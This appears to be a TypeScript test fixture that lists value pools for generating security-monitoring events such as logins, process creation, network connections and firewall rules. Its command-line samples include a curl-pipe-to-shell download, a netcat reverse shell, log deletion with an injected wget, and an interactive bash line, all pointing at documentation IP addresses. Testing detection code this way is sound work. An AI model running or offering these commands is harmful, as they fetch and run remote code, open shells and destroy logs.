/** A property that is not there at all. */
export const missing = undefined;

const addresses = [
  missing,
  '',
  '-',
  '?',
  '127.0.0.1',
  '::1',
  '2001:db8::1',
  '2001:DB8::1',
  '10.0.0.1',
  '172.32.0.1',
  '203.0.113.9',
  '203.0.113.95',
  '198.127.0.1',
];
const ports = [missing, '', '*', '0', '22', 443, '80,443', '1024', '1025', 0];
const hitCounts = [missing, null, 3, '4', 'x', 1];
const users = ['0', '1000', '0x3E7', missing, 'S-1-5-21-1'];
const programs = ['/tmp/x', '/bin/sh', '', missing, 'C:\\Windows\\x', '/tmp/X'];
const commands = [
  missing,
  '',
  'curl -s http://203.0.113.9/x.sh | sh',
  'sh -c "nc 192.0.2.1 1 -e /bin/sh"',
  'rm -f "/var/log/a b" ; wget x',
  "useradd O'Neil\t-m",
  'bash\n-i',
  '/tmp/x /dev/shm/ü',
  'CURL x | SH',
];

/** What the details of each kind of event draw from, by name. */
export const details: Readonly<Record<string, Readonly<Record<string, readonly unknown[]>>>> = {
  LocalUsers: {
    UserName: ['pi', 'pI', 'op', 'O"Neil'],
    UserId: users,
    GroupNames: ['pi;adm;sudo', 'adm;pi;sudo', 'Administrators,Users', '', missing, 'SUDO;pi', 'a;a', 'docker'],
  },
  ListeningPorts: {
    Protocol: ['tcp', 'TCP', 'tcp6', '6in4', missing],
    LocalAddress: ['0.0.0.0', '0.0.0.1', '::', '*', ...addresses],
    LocalPort: ports,
    RemoteAddress: addresses,
    RemotePort: ports,
    Pid: ['1', 2, missing],
  },
  Login: {
    UserName: ['pi', '(invalid user)', '(UNKNOWN user)', missing, 'PLANT\\op'],
    RemoteAddress: addresses,
    Executable: ['/usr/sbin/sshd', 'tty1', missing],
    Operation: ['Login', 'LoginFailed', 'Logout', 'login', 'loginfailed', 'LOGOUT', 'auth', missing],
    LastRemoteAddress: [missing, missing, '192.0.2.3'],
    Result: ['Fail', 'FAIL', 'Success', 'success', '', missing, 'other'],
  },
  ProcessCreate: {
    ProcessId: [0, 5, 6, 7, '8', missing, -1],
    ParentProcessId: [0, 5, 6, '7', missing, 8],
    Executable: programs,
    CommandLine: commands,
    UserId: users,
    UserName: [missing, 'op', ''],
    Hash: [missing, '', 'aa', 'bb'],
    HitCount: hitCounts,
    StartTimeUtc: [missing, '04/18/2019 11:00:02', '2019-04-18T11:00:02Z', ''],
  },
  Process: {
    Executable: programs,
    CommandLine: [missing, missing, 'both'],
    Commandline: commands,
    UserId: users,
    HitCount: hitCounts,
    EventType: ['exec', 'EXIT', 'Exit', missing],
  },
  ConnectionCreate: {
    Direction: ['In', 'Out', 'out', 'in', missing],
    RemoteAddress: addresses,
    RemotePort: ports,
    LocalPort: ports,
    Protocol: ['tcp', 'Tcp', missing],
    Executable: programs,
    CommandLine: commands,
    UserId: users,
    HitCount: hitCounts,
  },
  NetworkActivity: { RemoteAddress: addresses, RemotePort: ports },
  FirewallConfiguration: {
    Enabled: [true, false, missing, 'true'],
    Action: ['Allow', 'allow', 'Deny'],
    Priority: [1, '2', missing, 'x', null],
    ChainName: ['INPUT', missing],
    SourceAddress: ['*', '0.0.0.0/0', '10.0.0.1', missing],
    DestinationPort: ['*', '22', missing, '80,443'],
    'Rule Name': ['File sharing', missing],
  },
  OSBaseline: {
    CceId: ['C-1', 'C-2', ''],
    BaselineCheckId: ['B-1', missing],
    Result: ['FAIL', 'Fail', 'Err', 'PASS', missing],
    Severity: ['critical', 'IMPORTANT', 'Warning', 'warning', 'Other', missing],
    BaselineCheckResult: [missing, 'FAIL'],
    BaselineCheckDescription: [missing, 'b'],
    Description: ['d', missing],
    Error: ['e1', 'e2', missing],
  },
  Baseline: {
    BaselineCheckId: ['B-1', 'B-2'],
    BaselineCheckResult: ['ERROR', 'fail'],
    BaselineCheckDescription: ['b'],
    Severity: ['Important'],
  },
  DroppedEventsStatistics: { Queue: ['Low'], DroppedEvents: [0, 5, '6', missing], CollectedEvents: [10, missing] },
  MessageStatistics: { MessagesSent: [18], TotalFailed: [0, 1, missing], MessagesUnder4KB: [6, missing] },
  ConfigurationError: { ErrorType: ['Conflict', missing], ConfigurationName: ['x'], Message: ['a "b"'] },
  Diagnostic: { Severity: ['Error'], Message: ['m\nn', missing] },
  SystemInformation: { OSName: ['Linux', missing], OSVersion: ['10.0.17763', '4'], HostName: ['h', missing] },
  ConnectedHardware: {
    ConnectedHardware: ['USB', missing, ''],
    HardwareName: ['Disk', missing],
    HardwareCategory: ['c', missing],
  },
};
